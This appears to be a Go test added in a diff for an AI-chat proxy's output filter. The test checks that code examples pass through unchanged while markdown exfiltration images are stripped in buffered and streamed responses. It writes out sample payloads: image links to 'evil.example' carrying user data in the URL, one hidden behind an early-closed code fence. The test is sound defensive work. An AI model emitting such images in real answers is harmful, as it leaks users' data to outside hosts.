@@ -136,3 +136,63 @@ func TestContentSafetyAnswerStopped(t *testing.T) {
 		t.Fatalf("text %q error %q body %s", text, errEv, res.Body)
 	}
 }
+
+// TestOutputCodeNotSanitised: an ordinary coding answer's HTML and markdown
+// examples, in a fenced block and in code spans, reach the client
+// untouched (a renderer shows code as text), while an exfiltration image
+// after the fence, and one behind a fence closed early, lose their URL:
+// buffered, and streamed with the fence markers split across events and
+// the stream cut at every byte, byte-identical however it was cut.
+func TestOutputCodeNotSanitised(t *testing.T) {
+	p, key := safetyProc(t)
+	code := "To embed an image:\n\n```html\n<img src=\"https://example.com/cat.png\">\n<a href=\"https://example.com/docs\">docs</a>\n```\n\nIn markdown: `![cat](https://example.com/cat.png)` or `[docs](https://example.com/docs)`.\n"
+	answer := code + "Chart: ![c](https://evil.example/p.png?d=jane) and\n```\n```\n![d](https://evil.example/q.png)\n"
+	want := code + "Chart: c and\n```\n```\nd\n"
+
+	t.Run("buffered", func(t *testing.T) {
+		q, _ := json.Marshal(answer)
+		up := `{"id":"c1","object":"chat.completion","model":"gpt-4o","choices":[{"index":0,"message":{"role":"assistant","content":` + string(q) + `},"finish_reason":"stop"}]}`
+		res := run(t, p, envoysim.DefaultFilter, chatRequest(key, "/v1/chat/completions", `{"model":"gpt-4o","messages":[{"role":"user","content":"img"}]}`), jsonUpstream(up))
+		var got struct {
+			Choices []struct{ Message struct{ Content string } } `json:"choices"`
+		}
+		if err := json.Unmarshal(res.Body, &got); err != nil || len(got.Choices) != 1 || got.Choices[0].Message.Content != want {
+			t.Fatalf("status %d: client content %+v (%v), want %q", res.Status, got, err, want)
+		}
+	})
+
+	t.Run("streamed", func(t *testing.T) {
+		// Events split inside the opening fence marker, inside the image
+		// in the fence, and inside the closing marker.
+		a := strings.Index(answer, "```html") + 2
+		b := strings.Index(answer, "cat.png")
+		c := strings.Index(answer, "```\n\nIn") + 1
+		stream := openAIStream([]string{answer[:a], answer[a:b], answer[b:c], answer[c:]}, 5, 30)
+		req := chatRequest(key, "/v1/chat/completions", `{"model":"gpt-4o","stream":true,"messages":[{"role":"user","content":"img"}]}`)
+		rng := rand.New(rand.NewPCG(27, 3))
+		var first []byte
+		for round := range 8 {
+			var cuts []int
+			if round == 1 {
+				for i := 1; i < len(stream); i++ {
+					cuts = append(cuts, i)
+				}
+			} else if round > 1 {
+				for range 1 + rng.IntN(30) {
+					cuts = append(cuts, 1+rng.IntN(len(stream)-1))
+				}
+				slices.Sort(cuts)
+			}
+			res := run(t, p, envoysim.DefaultFilter, req, sseUpstream(stream, cuts))
+			text, errEv, done := streamText(t, res.Body)
+			if errEv != "" || !done || text != want {
+				t.Fatalf("round %d: text %q (error %q, done %v), want %q", round, text, errEv, done, want)
+			}
+			if first == nil {
+				first = res.Body
+			} else if !bytes.Equal(first, res.Body) {
+				t.Fatalf("round %d: output differs with chunking:\n%s\n---\n%s", round, first, res.Body)
+			}
+		}
+	})
+}
